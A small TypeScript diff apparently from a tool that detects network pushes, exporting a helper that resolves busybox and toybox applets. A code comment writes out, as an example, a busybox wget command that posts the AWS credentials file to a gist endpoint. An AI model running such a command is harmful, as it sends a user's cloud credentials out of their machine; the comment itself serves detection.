@@ -21,9 +21,9 @@ export function launchedProgram(view: LaunchView): { binary: string; args: strin
  * `busybox wget --post-file=/root/.aws/credentials https://api.github.com/gists` was no push, where the
  * same applet run through its `wget` link is one). Their own options come before the applet.
  */
-const MULTI_CALL = new Set(['busybox', 'toybox']);
+export const MULTI_CALL: ReadonlySet<string> = new Set(['busybox', 'toybox']);
 
-function appletOf(view: LaunchView): { binary: string; args: string } | null {
+export function appletOf(view: LaunchView): { binary: string; args: string } | null {
   if (!MULTI_CALL.has(basename(view.binary))) return null;
   const words = tokenize(view.args);
   const at = words.findIndex((w) => !w.startsWith('-'));
